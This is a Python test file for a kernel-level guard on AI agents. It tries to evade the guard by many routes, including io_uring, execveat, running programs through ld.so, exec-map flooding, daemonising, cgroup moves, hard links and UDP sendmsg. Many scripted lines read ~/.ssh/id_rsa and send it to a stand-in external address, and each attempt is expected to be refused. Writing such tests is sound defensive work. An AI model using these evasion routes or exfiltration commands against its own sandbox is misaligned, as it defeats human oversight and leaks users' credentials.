"""Ways around the guard that an agent could try, each of which must fail on
the host kernel's backends (cgroup sock_addr hooks for connect/send, fanotify
permission events for exec and file writes, labels moved in the kernel):
io_uring, execveat, double fork + setsid, moving to another cgroup, threads,
copies by other tools, hard links, sendmsg with an address.

Each evasion has a positive control next to it (the same operation without
the secret, or on a path that is not protected) so that a test cannot pass
by everything failing. The attempts that Python cannot make are in
evasion.c, compiled here at test time (no liburing: raw io_uring syscalls).

Uses the network namespace of test_guard.py; every address is inside it.
"""
import os
import shutil
import struct
import subprocess
import sys

sys.path.insert(0, os.path.dirname(__file__))
import test_guard as tg  # noqa: E402
import test_guard_files as tgf  # noqa: E402
from atlib import PY, eq, run_tests, tmpdir  # noqa: E402

EPERM = "errno=1"
OK = "ok"

_helper = None


def helper():
    """The compiled evasion.c (once per run)."""
    global _helper
    if _helper is None:
        out = os.path.join(tmpdir(), "evasion")
        subprocess.run(["cc", "-O1", "-Wall", "-o", out, os.path.join(tg.HERE, "evasion.c")],
                       check=True)
        _helper = out
    return _helper


def subst(script, **extra):
    v = {"e": helper(), "ext": tg.EXT, "ext6": tg.EXT6, "meta": tg.META, "llm": tg.LLM_PORT,
         "py": PY}
    v.update(extra)
    return script % v


def expect_all(r, want):
    for name, result in want.items():
        r.expect(name, result)


# ---- 1. io_uring connect and sendmsg ------------------------------------------------

def test_io_uring_connect_after_reading_the_secret():
    d, home = tg.make_home()
    r = tg.guard_run(tg.NO_EXFIL, subst("""
        %(e)s uring-connect inline - %(ext)s 8080 uring-clean
        %(e)s uring-connect async - %(ext)s 8080 uring-async-clean
        %(e)s uring-connect sqpoll - %(ext)s 8080 uring-sqpoll-clean
        %(e)s uring-connect inline $H/notes.txt %(ext)s 8080 uring-notes
        %(e)s uring-connect inline $H/.ssh/id_rsa 127.0.0.1 %(llm)d uring-secret-to-llm
        %(e)s uring-connect inline $H/.ssh/id_rsa %(ext)s 8080 uring-secret
        %(e)s uring-connect async $H/.ssh/id_rsa %(ext)s 8080 uring-async-secret
        %(e)s uring-connect sqpoll $H/.ssh/id_rsa %(ext)s 8080 uring-sqpoll-secret
        %(e)s uring-connect inline $H/.ssh/id_rsa %(ext6)s 8080 uring-secret6
        %(e)s uring-sendmsg - %(ext)s 9999 uring-udp-clean
        %(e)s uring-sendmsg $H/.ssh/id_rsa %(ext)s 9999 uring-udp-secret
    """), home, d)
    expect_all(r, {
        "uring-clean": OK, "uring-async-clean": OK, "uring-sqpoll-clean": OK,
        "uring-notes": OK, "uring-secret-to-llm": OK, "uring-udp-clean": OK,
        "uring-secret": EPERM, "uring-async-secret": EPERM, "uring-sqpoll-secret": EPERM,
        "uring-secret6": EPERM, "uring-udp-secret": EPERM,
    })
    v = r.violations(rule="no-exfil", op="connect")
    eq(len(v), 4, "connect violations")
    eq({e["mechanism"] for e in v}, {"cgroup"}, "mechanism")
    eq(len(r.violations(rule="no-exfil", op="send")), 1, "send violations")


def test_io_uring_connect_on_an_sqpoll_ring_inherited_from_a_clean_parent():
    """The parent (clean) creates an SQPOLL ring and forks; the child reads
    the secret, registers its socket as a fixed file and queues a connect:
    the kernel thread that runs it belongs to the parent."""
    d, home = tg.make_home()
    r = tg.guard_run(tg.NO_EXFIL, subst("""
        %(e)s uring-connect sqpoll-inherited - %(ext)s 8080 inherited-clean
        %(e)s uring-connect sqpoll-inherited $H/.ssh/id_rsa %(ext)s 8080 inherited-secret
    """), home, d)
    r.expect("inherited-clean", OK)
    r.expect("inherited-clean-direct", OK)
    r.expect("inherited-secret-direct", EPERM)   # the child does carry the label
    r.expect("inherited-secret", EPERM)


# ---- 2. io_uring open of a protected path ---------------------------------------------

def protected_home():
    d, home = tg.make_home()
    ws = tgf.workspace(d)
    with open(os.path.join(home, ".bashrc"), "w") as f:
        f.write("# rc\n")
    with open(os.path.join(home, "plain"), "w") as f:
        f.write("# not protected\n")
    return d, home, ws


def test_io_uring_open_of_a_protected_path_for_writing():
    d, home, ws = protected_home()
    r = tg.guard_run(tgf.PROTECT, subst("""
        %(e)s uring-open inline $H/plain wr uring-write-unprotected
        %(e)s uring-open async $H/plain wr uring-async-write-unprotected
        %(e)s uring-open openat2 $H/plain wr uring-openat2-write-unprotected
        %(e)s uring-open inline $H/.bashrc wr uring-write
        %(e)s uring-open async $H/.bashrc wr uring-async-write
        %(e)s uring-open inline $H/.bashrc trunc uring-trunc
        %(e)s uring-open openat2 $H/.bashrc wr uring-openat2-write
    """), home, d, cwd=ws)
    expect_all(r, {
        "uring-write-unprotected": OK, "uring-async-write-unprotected": OK,
        "uring-openat2-write-unprotected": OK,
        "uring-write": EPERM, "uring-async-write": EPERM, "uring-trunc": EPERM,
        "uring-openat2-write": EPERM,
    })
    with open(os.path.join(home, ".bashrc")) as f:
        eq(f.read(), "# rc\n", "~/.bashrc after the attempts")
    eq(len(r.violations(rule="protect-paths", op="write")), 4, "write violations")


def test_io_uring_read_only_open_of_a_protected_path():
    """A rule on write does not refuse reading with open(2). An io_uring
    open carries no flags agenttrail can see (no syscall entry): it is
    decided as read-and-write, so a write rule refuses it too (documented,
    fails closed)."""
    d, home, ws = protected_home()
    r = tg.guard_run(tgf.PROTECT, subst("""
        $W read $H/.bashrc syscall-read
        %(e)s uring-open inline $H/.bashrc rd uring-read
        %(e)s uring-open async $H/.bashrc rd uring-async-read
    """), home, d, cwd=ws)
    expect_all(r, {"syscall-read": OK, "uring-read": EPERM, "uring-async-read": EPERM})


# ---- 3. exec rules: execveat and indirect execution ------------------------------------

EXEC_RULE = """
    version: 1
    rules:
      - name: no-forbidden-tool
        on: exec
        target: {command: "forbidden-tool"}
        effect: block
        reason: "forbidden-tool may not run"
"""


def tool_dir(d):
    b = os.path.join(d, "bin")
    os.makedirs(b)
    for n in ("forbidden-tool", "allowed-tool"):
        shutil.copy("/bin/true", os.path.join(b, n))
    with open(os.path.join(b, "run-it.sh"), "w") as f:
        f.write("#!/bin/sh\nforbidden-tool\necho \"script $?\"\n")
    with open(os.path.join(b, "run-allowed.sh"), "w") as f:
        f.write("#!/bin/sh\nallowed-tool\necho \"script-allowed $?\"\n")
    os.chmod(os.path.join(b, "run-it.sh"), 0o755)
    os.chmod(os.path.join(b, "run-allowed.sh"), 0o755)
    return b


PY_EXECV = ("import os, sys\n"
            "try:\n"
            "    os.execv(sys.argv[1], [sys.argv[2]])\n"
            "except OSError as e:\n"
            "    print(sys.argv[3], 'errno=%d' % e.errno)\n")


def test_execveat_and_indirect_exec_of_a_forbidden_command():
    d, home = tg.make_home()
    b = tool_dir(d)
    r = tg.guard_run(EXEC_RULE, subst("""
        export PATH=%(b)s:$PATH
        %(e)s execveat dirfd %(b)s/allowed-tool allowed-tool dirfd-allowed
        %(e)s execveat dirfd %(b)s/forbidden-tool forbidden-tool dirfd
        %(e)s execveat dirfd %(b)s/forbidden-tool innocent dirfd-argv0
        (cd %(b)s && %(e)s execveat fdcwd allowed-tool allowed-tool fdcwd-allowed)
        (cd %(b)s && %(e)s execveat fdcwd forbidden-tool forbidden-tool fdcwd)
        %(e)s execveat empty-opath %(b)s/allowed-tool allowed-tool empty-opath-allowed
        %(e)s execveat empty-opath %(b)s/forbidden-tool innocent empty-opath
        %(e)s execveat empty-rdonly %(b)s/forbidden-tool innocent empty-rdonly
        allowed-tool; echo "direct-allowed $?"
        env allowed-tool; echo "env-allowed $?"
        env forbidden-tool 2>/dev/null; echo "env $?"
        bash -c forbidden-tool 2>/dev/null; echo "bash-c $?"
        bash -c 'exec -a innocent forbidden-tool' 2>/dev/null; echo "bash-exec-a $?"
        %(py)s -c "$PYX" %(b)s/allowed-tool allowed-tool python-execv-allowed; echo "python-execv-allowed $?"
        %(py)s -c "$PYX" %(b)s/forbidden-tool forbidden-tool python-execv
        %(py)s -c "$PYX" %(b)s/forbidden-tool innocent python-execv-argv0
        run-allowed.sh
        run-it.sh 2>/dev/null
    """, b=b).replace("$PYX", PY_EXECV.replace('"', '\\"')), home, d)
    expect_all(r, {
        "dirfd-allowed": OK, "fdcwd-allowed": OK, "empty-opath-allowed": OK,
        "direct-allowed": "0", "env-allowed": "0", "python-execv-allowed": "0",
        "script-allowed": "0",
        "dirfd": EPERM, "dirfd-argv0": EPERM, "fdcwd": EPERM, "empty-opath": EPERM,
        "empty-rdonly": EPERM, "env": "126", "bash-c": "126", "bash-exec-a": "126",
        "python-execv": EPERM, "python-execv-argv0": EPERM, "script": "126",
    })
    v = r.violations(rule="no-forbidden-tool")
    assert len(v) >= 11, r.events
    eq({e["op"] for e in v}, {"exec"}, "ops")
    eq({e["mechanism"] for e in v}, {"fanotify"}, "mechanism")
    eq({e["target"] for e in v}, {os.path.join(b, "forbidden-tool")}, "targets")


def elf_interpreter(path):
    """PT_INTERP of a 64-bit little-endian ELF: its dynamic loader."""
    with open(path, "rb") as f:
        data = f.read()
    phoff, = struct.unpack_from("<Q", data, 0x20)
    phentsize, phnum = struct.unpack_from("<HH", data, 0x36)
    for i in range(phnum):
        p_type, _, p_offset, _, _, p_filesz = struct.unpack_from(
            "<IIQQQQ", data, phoff + i * phentsize)
        if p_type == 3:
            return data[p_offset:p_offset + p_filesz].rstrip(b"\0").decode()
    raise AssertionError("no PT_INTERP in " + path)


def test_exec_through_the_dynamic_loader():
    """Beyond the brief's list: ld.so maps the program itself, with plain
    open and mmap, so no exec permission event names the program."""
    d, home = tg.make_home()
    b = tool_dir(d)
    r = tg.guard_run(EXEC_RULE, subst("""
        %(b)s/forbidden-tool 2>/dev/null; echo "direct $?"
        %(ld)s %(b)s/allowed-tool; echo "ld.so-allowed $?"
        %(ld)s %(b)s/forbidden-tool 2>/dev/null; echo "ld.so $?"
    """, b=b, ld=elf_interpreter(os.path.join(b, "forbidden-tool"))), home, d)
    expect_all(r, {"direct": "126", "ld.so-allowed": "0", "ld.so": "126"})


def test_exec_rule_after_many_failed_execs():
    """Beyond the brief's list: an exec that fails (ENOENT here) leaves its
    argv entry in the kernel's exec_reqs map (4096 entries); a process that
    exits without a successful exec never removes it."""
    d, home = tg.make_home()
    b = tool_dir(d)
    r = tg.guard_run(EXEC_RULE, subst("""
        %(b)s/forbidden-tool 2>/dev/null; echo "before $?"
        %(e)s exec-flood 4500 flood
        %(b)s/allowed-tool; echo "allowed-after $?"
        %(b)s/forbidden-tool 2>/dev/null; echo "after $?"
    """, b=b), home, d, timeout=120)
    expect_all(r, {"before": "126", "flood": OK, "allowed-after": "0", "after": "126"})


# ---- 4. double fork + setsid -----------------------------------------------------------

def test_double_fork_setsid_daemon_keeps_the_label():
    d, home = tg.make_home()
    r = tg.guard_run(tg.NO_EXFIL, subst("""
        wait_done() { i=0; while [ ! -e "$1" ] && [ $i -lt 200 ]; do sleep 0.05; i=$((i+1)); done; }
        %(e)s daemon-connect grandchild $H/notes.txt %(ext)s 8080 daemon-clean %(d)s/done1
        wait_done %(d)s/done1
        %(e)s daemon-connect grandchild $H/.ssh/id_rsa %(ext)s 8080 daemon-reads %(d)s/done2
        wait_done %(d)s/done2
        %(e)s daemon-connect ancestor $H/.ssh/id_rsa %(ext)s 8080 daemon-inherits %(d)s/done3
        wait_done %(d)s/done3
    """, d=d), home, d)
    expect_all(r, {
        "daemon-clean-detached": OK, "daemon-reads-detached": OK,
        "daemon-inherits-detached": OK,
        "daemon-clean": OK, "daemon-reads": EPERM, "daemon-inherits": EPERM,
    })
    eq(len(r.violations(rule="no-exfil")), 2, "violations")


# ---- 5. leaving the session's cgroup -----------------------------------------------------

def cgroup2_mount():
    with open("/proc/self/mountinfo") as f:
        for line in f:
            left, _, right = line.partition(" - ")
            if right.split()[0] == "cgroup2":
                return left.split()[4]
    raise AssertionError("no cgroup2 mount in /proc/self/mountinfo")


class Cgroup:
    """A cgroup v2 directory of the test's own, removed afterwards."""

    def __enter__(self):
        self.root = cgroup2_mount()
        self.rel = "/at-evasion-%d" % os.getpid()
        self.path = self.root + self.rel
        os.mkdir(self.path)
        return self

    def __exit__(self, *exc):
        # the workloads have exited; anything left goes back to the root
        try:
            with open(os.path.join(self.path, "cgroup.procs")) as f:
                left = f.read().split()
            for pid in left:
                with open(os.path.join(self.root, "cgroup.procs"), "w") as f:
                    f.write(pid)
        except OSError:
            pass
        os.rmdir(self.path)


# `ip netns exec` gives the workload a mount namespace of its own with a
# fresh /sys, where the host's cgroup2 mount is not: the workload mounts the
# (same) cgroup2 hierarchy there, which the host does not see.
CG_MOUNT = "mkdir -p %(mnt)s && mount -t cgroup2 cgroup2 %(mnt)s || echo 'cgroup2 mount failed'\n"


def test_moving_to_another_cgroup_keeps_labels_and_rules():
    d, home = tg.make_home()
    mnt = os.path.join(d, "cg2")
    with Cgroup() as cg:
        v = {"mnt": mnt, "cg": mnt + cg.rel, "root": mnt}
        r = tg.guard_run(tg.NO_EXFIL, subst(CG_MOUNT + """
            %(e)s cgroup-connect %(cg)s - %(ext)s 8080 moved-clean
            %(e)s cgroup-connect %(cg)s $H/.ssh/id_rsa %(ext)s 8080 moved-secret
            %(e)s cgroup-connect %(root)s $H/.ssh/id_rsa %(ext)s 8080 root-secret
            sh -c 'echo $$ > %(cg)s/cgroup.procs && sed -n "s/^0::/shell-cgroup /p" /proc/self/cgroup && $W read-connect $H/.ssh/id_rsa %(ext)s 8080 moved-shell-child'
        """, **v), home, d)
        expect_all(r, {
            "moved-clean-cgroup": cg.rel, "moved-secret-cgroup": cg.rel,
            "root-secret-cgroup": "/", "shell-cgroup": cg.rel,
            "moved-clean": OK,
            "moved-secret": EPERM, "root-secret": EPERM, "moved-shell-child": EPERM,
        })
        r = tg.guard_run(tg.METADATA, subst(CG_MOUNT + """
            %(e)s cgroup-connect %(cg)s - %(ext)s 8080 meta-moved-other
            %(e)s cgroup-connect %(cg)s - %(meta)s 80 meta-moved
            %(e)s cgroup-connect %(root)s - %(meta)s 80 meta-root
        """, **v), home, d)
        expect_all(r, {
            "meta-moved-cgroup": cg.rel, "meta-root-cgroup": "/",
            "meta-moved-other": OK, "meta-moved": EPERM, "meta-root": EPERM,
        })


# ---- 6. threads ------------------------------------------------------------------------------

def test_threads_share_the_label():
    d, home = tg.make_home()
    r = tg.guard_run(tg.NO_EXFIL, subst("""
        %(e)s thread-connect reader-alive $H/notes.txt %(ext)s 8080 thread-clean
        %(e)s thread-connect reader-alive $H/.ssh/id_rsa %(ext)s 8080 thread-reader-alive
        %(e)s thread-connect main-reads $H/notes.txt %(ext)s 8080 new-thread-clean
        %(e)s thread-connect main-reads $H/.ssh/id_rsa %(ext)s 8080 new-thread
    """), home, d)
    expect_all(r, {
        "thread-clean": OK, "new-thread-clean": OK,
        "thread-reader-alive": EPERM, "new-thread": EPERM,
    })


# ---- 7. copies by other tools; hard links to a protected file ----------------------------------

PYCOPY = "import shutil, sys; getattr(shutil, sys.argv[1])(sys.argv[2], sys.argv[3])"


def test_copies_by_dd_install_and_python_carry_the_label():
    d, home = tg.make_home()
    r = tg.guard_run(tg.NO_EXFIL, subst("""
        for src in .ssh/id_rsa notes.txt; do
          tag=$( [ $src = notes.txt ] && echo -clean )
          dd if=$H/$src of=$H/dd$tag 2>/dev/null && $W read-connect $H/dd$tag %(ext)s 8080 dd$tag
          dd if=$H/$src of=$H/ddbs$tag bs=1 2>/dev/null && $W read-connect $H/ddbs$tag %(ext)s 8080 dd-bs1$tag
          install -m 600 $H/$src $H/installed$tag && $W read-connect $H/installed$tag %(ext)s 8080 install$tag
          %(py)s -c "$PYC" copy $H/$src $H/pycopy$tag && $W read-connect $H/pycopy$tag %(ext)s 8080 shutil-copy$tag
          %(py)s -c "$PYC" copyfile $H/$src $H/pycopyfile$tag && $W read-connect $H/pycopyfile$tag %(ext)s 8080 shutil-copyfile$tag
        done
    """).replace("$PYC", PYCOPY), home, d)
    for name in ("dd", "dd-bs1", "install", "shutil-copy", "shutil-copyfile"):
        r.expect(name + "-clean", OK)
        r.expect(name, EPERM)


def test_hard_links_to_a_protected_file():
    """Files are known by inode: a hard link to ~/.bashrc is ~/.bashrc,
    whether made before the policy loaded or in the session. Writing
    through it, renaming it and renaming another file onto ~/.bashrc are
    refused (rename by the command's seccomp filter, as BPF-LSM's
    path_rename would)."""
    d, home = tg.make_home()
    rc = os.path.join(home, ".bashrc")
    with open(rc, "w") as f:
        f.write("# rc\n")
    os.link(rc, os.path.join(home, "pre-link"))      # made before the policy loads
    os.link(os.path.join(home, "notes.txt"), os.path.join(home, "notes-link"))
    r = tg.guard_run(tgf.PROTECT, """
        $W write $H/notes-link unprotected-link
        mkdir $H/moved && mv $H/notes-link $H/moved/notes; echo "mv-unprotected-link $?"
        $W write $H/pre-link pre-link
        mv $H/pre-link $H/moved/renamed 2>/dev/null; echo "mv-pre-link $?"
        ln $H/.bashrc $H/new-link && $W write $H/new-link link-in-session
        mkdir $H/sub && ln $H/.bashrc $H/sub/x && mv $H/sub/x $H/sub/y 2>/dev/null; echo "mv-link-in-session $?"
        $W write $H/sub/x link-in-session-kept
        echo evil > $H/evil && ln $H/evil $H/evil2 && mv $H/evil2 $H/.bashrc 2>/dev/null; echo "rename-into-place $?"
        $W write $H/.bashrc after-rename-into-place
        rm $H/pre-link 2>/dev/null; echo "rm-pre-link $?"
    """, home, d)
    expect_all(r, {
        "unprotected-link": OK, "pre-link": EPERM, "link-in-session": EPERM,
        "link-in-session-kept": EPERM, "after-rename-into-place": EPERM,
    })
    for name, status in (("mv-unprotected-link", "0"), ("mv-pre-link", "1"),
                         ("mv-link-in-session", "1"), ("rename-into-place", "1"),
                         ("rm-pre-link", "1")):
        r.expect(name, status)
    refused = r.violations(rule="protect-paths", op="rename") + \
        r.violations(rule="protect-paths", op="unlink")
    assert len(refused) >= 4, refused
    for e in refused:
        eq((e["mechanism"], e["errno"]), ("seccomp", 1), "a refused rename or unlink")
    with open(rc) as f:
        eq(f.read(), "# rc\n", "~/.bashrc")
    eq(os.stat(os.path.join(home, "pre-link")).st_ino, os.stat(rc).st_ino, "the link made before")


# ---- 8. UDP sendmsg with an address ----------------------------------------------------------

def test_udp_sendmsg_with_an_address():
    d, home = tg.make_home()
    r = tg.guard_run(tg.NO_EXFIL, subst("""
        %(e)s udp-send 4 - %(ext)s 9999 sendmsg-clean
        %(e)s udp-send 6 - %(ext6)s 9999 sendmsg6-clean
        %(e)s udp-send 6mapped - %(ext)s 9999 sendmsg-mapped-clean
        %(e)s udp-send 6sin - %(ext)s 9999 sendmsg-6sin-clean
        %(e)s udp-send mmsg - %(ext)s 9999 sendmmsg-clean
        %(e)s udp-send connect - %(ext)s 9999 udp-connect-clean
        %(e)s udp-send 4 $H/.ssh/id_rsa 127.0.0.1 %(llm)d sendmsg-to-llm
        %(e)s udp-send 4 $H/.ssh/id_rsa %(ext)s 9999 sendmsg
        %(e)s udp-send 6 $H/.ssh/id_rsa %(ext6)s 9999 sendmsg6
        %(e)s udp-send 6mapped $H/.ssh/id_rsa %(ext)s 9999 sendmsg-mapped
        %(e)s udp-send 6sin $H/.ssh/id_rsa %(ext)s 9999 sendmsg-6sin
        %(e)s udp-send mmsg $H/.ssh/id_rsa %(ext)s 9999 sendmmsg
        %(e)s udp-send connect $H/.ssh/id_rsa %(ext)s 9999 udp-connect
    """), home, d)
    expect_all(r, {
        "sendmsg-clean": OK, "sendmsg6-clean": OK, "sendmsg-mapped-clean": OK,
        "sendmsg-6sin-clean": OK, "sendmmsg-clean": OK, "udp-connect-clean": OK,
        "sendmsg-to-llm": OK,
        "sendmsg": EPERM, "sendmsg6": EPERM, "sendmsg-mapped": EPERM, "sendmsg-6sin": EPERM,
        "sendmmsg": EPERM, "udp-connect": EPERM,
    })
    eq(len(r.violations(rule="no-exfil", op="send")), 5, "send violations")
    eq(len(r.violations(rule="no-exfil", op="connect")), 1, "connect violations")


if __name__ == "__main__":
    tg.setup_ns()
    try:
        run_tests(globals())
    finally:
        tg.teardown_ns()
